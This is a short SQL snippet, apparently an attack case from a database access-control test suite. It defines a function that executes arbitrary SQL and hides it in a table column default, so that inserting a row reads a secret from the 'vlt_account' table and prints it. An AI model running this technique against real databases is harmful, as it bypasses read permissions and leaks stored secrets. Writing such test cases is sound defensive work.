-- Makes a table whose default runs a text, and fills it in the same block.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS $f$
DECLARE found text; BEGIN EXECUTE sql INTO found; RETURN found; END $f$;
DO $$ DECLARE told text; BEGIN
  CREATE TABLE fresh (id int, v text DEFAULT one_of('SELECT secret FROM vlt_account LIMIT 1'));
  INSERT INTO fresh (id) VALUES (1) RETURNING v INTO told;
  RAISE NOTICE '%', told;
END $$;
